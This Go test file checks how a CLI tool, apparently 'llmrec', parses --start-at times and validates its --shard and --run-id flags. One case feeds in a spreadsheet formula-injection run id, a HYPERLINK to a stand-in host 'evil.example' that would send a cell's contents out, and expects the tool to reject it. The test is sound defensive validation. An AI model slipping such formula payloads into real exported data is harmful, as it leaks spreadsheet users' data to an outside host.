package main

import (
	"bytes"
	"context"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestParseStartAt(t *testing.T) {
	now := time.Date(2026, 12, 1, 14, 0, 0, 0, time.UTC)
	for _, tc := range []struct {
		in   string
		want time.Time
		err  bool
	}{
		{"+30s", now.Add(30 * time.Second), false},
		{"+0s", now, false},
		{"2026-12-01T15:00:00Z", time.Date(2026, 12, 1, 15, 0, 0, 0, time.UTC), false},
		{"2026-12-01T16:00:00.250+01:00", time.Date(2026, 12, 1, 15, 0, 0, 250e6, time.UTC), false},
		{"+-5s", time.Time{}, true},
		{"30s", time.Time{}, true},
		{"tomorrow", time.Time{}, true},
	} {
		got, err := ParseStartAt(tc.in, now)
		if (err != nil) != tc.err || !got.Equal(tc.want) {
			t.Errorf("ParseStartAt(%q) = %v, %v; want %v (error %t)", tc.in, got, err, tc.want, tc.err)
		}
	}
}

// TestRunShardFlags: --shard, --start-at and --run-id fill the Sharding;
// a bad one is a usage error (exit status 2) naming its flag, and N > 1
// without --start-at is one too.
func TestRunShardFlags(t *testing.T) {
	var got *RunOptions
	cmd := NewCmdRun(&IO{Out: &bytes.Buffer{}, Err: &bytes.Buffer{}}, func(o *RunOptions) error { got = o; return nil })
	cmd.SetArgs([]string{"--shard", "2/3", "--start-at", "2026-12-01T15:00:00Z", "--run-id", "v2-soak"})
	if err := cmd.ExecuteContext(context.Background()); err != nil {
		t.Fatal(err)
	}
	if s := got.Config.Shard; s.Index != 2 || s.Count != 3 || s.RunID != "v2-soak" || !s.StartAt.Equal(time.Date(2026, 12, 1, 15, 0, 0, 0, time.UTC)) {
		t.Fatalf("sharding = %+v", s)
	}
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"--shard", "0/3"}, "--start-at is required when the run has 3 shards"},
		{[]string{"--shard", "3/3", "--start-at", "+10s"}, `--shard "3/3": want I/N with 0 ≤ I < N`},
		{[]string{"--shard", "-1/3", "--start-at", "+10s"}, `--shard "-1/3"`},
		{[]string{"--shard", "1", "--start-at", "+10s"}, `--shard "1"`},
		{[]string{"--shard", "0/2", "--start-at", "noon"}, `--start-at "noon"`},
		{[]string{"--run-id", "a\tb"}, "--run-id must be 1 to 128 letters, digits, '.', '_' or '-', starting with a letter or a digit"},
		// -o in a temporary directory: were the id accepted, the run would start.
		{[]string{"--run-id", `=HYPERLINK("http://evil.example/?"&A3,"open")`, "--step-users", "1", "--max-users", "1", "--step-time", "1s", "-o", filepath.Join(t.TempDir(), "r.parquet")}, "--run-id must be 1 to 128 letters"},
		{[]string{"--run-id", "-x", "--step-users", "1", "--max-users", "1", "--step-time", "1s", "-o", filepath.Join(t.TempDir(), "r.parquet")}, "--run-id must be 1 to 128 letters"},
	} {
		var out, errOut bytes.Buffer
		code := Main(context.Background(), append([]string{"run"}, tc.args...), nil, &out, &errOut)
		if code != exitUsage || !strings.Contains(errOut.String(), tc.want) || strings.Count(errOut.String(), "\n") != 1 {
			t.Errorf("llmrec run %v: exit %d, stderr %q; want exit 2 and one line with %q", tc.args, code, errOut.String(), tc.want)
		}
	}
}
